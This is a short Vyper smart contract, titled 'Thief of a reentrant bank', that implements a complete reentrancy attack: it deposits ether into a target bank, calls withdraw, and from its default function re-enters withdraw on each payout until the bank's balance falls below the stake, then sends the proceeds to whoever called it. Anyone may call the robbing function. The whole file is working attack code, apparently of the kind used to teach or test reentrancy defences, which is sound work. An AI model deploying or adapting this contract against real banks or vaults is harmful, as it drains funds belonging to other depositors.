# pragma version 0.4.3
"""
@title Thief of a reentrant bank
@license MIT
@notice Each time the bank pays, asks for the same money again, until the bank has too little left.
"""

interface Bank:
    def deposit(): payable
    def withdraw(): nonpayable


# The bank under attack, and the stake that it owes us once.
target: address
stake: uint256


@external
@payable
def rob(bank: address):
    """
    @notice Put the wei sent along into the bank, withdraw it again and again, and pay the caller. Anybody may call.
    @param bank The bank to rob.
    """
    self.target = bank
    self.stake = msg.value
    extcall Bank(bank).deposit(value=msg.value)
    extcall Bank(bank).withdraw()
    raw_call(msg.sender, b"", value=self.balance)


@external
@payable
def __default__():
    """
    @notice The bank pays here, and before it goes on we withdraw once more.
    """
    if msg.sender == self.target and self.target.balance >= self.stake:
        extcall Bank(self.target).withdraw()
